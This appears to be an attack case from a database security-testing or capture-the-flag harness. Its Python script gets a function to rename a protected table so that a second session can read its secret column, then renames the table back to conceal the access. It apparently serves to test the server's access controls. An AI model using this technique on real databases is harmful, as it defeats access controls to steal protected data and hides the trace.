"""Renames a table by a function while another session reads it."""

from attacks.frames import ask, query
from attacks.talking import Server

WANTS = "read"


def attack(server: Server) -> bytes:
    with server.login() as client:
        hidden = b"SELECT run_any('ALTER TABLE vlt_mine RENAME TO plain_mine')"
        with server.login() as other:
            client.send(query(hidden))
            heard = b"".join(ask(other, query(b"SELECT secret FROM plain_mine")) for _ in range(40))
            return heard + ask(
                client, query(b"ALTER TABLE plain_mine RENAME TO vlt_mine"), rounds=2
            )
